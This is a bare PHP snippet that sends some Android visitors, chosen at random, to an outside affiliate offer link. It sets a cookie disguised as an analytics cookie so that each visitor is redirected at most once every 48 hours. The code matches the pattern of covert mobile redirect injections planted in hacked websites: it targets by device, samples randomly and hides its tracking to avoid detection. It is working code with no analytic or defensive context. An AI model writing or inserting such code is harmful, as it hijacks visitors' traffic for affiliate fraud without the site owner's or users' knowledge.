if(preg_match("/Android/", $_SERVER['HTTP_USER_AGENT']) && !isset($_COOKIE['__utmr_cache']) && rand(0,99)<20) {
	$url = "https://affiliates.natifico112.com/click?pid=529&offer_id=3052&sub1={YOURSUBSOURCEID}";
	setcookie('__utmr_cache','1',time()+3600*48);
	header('Location: '.$url); 
	exit;
}
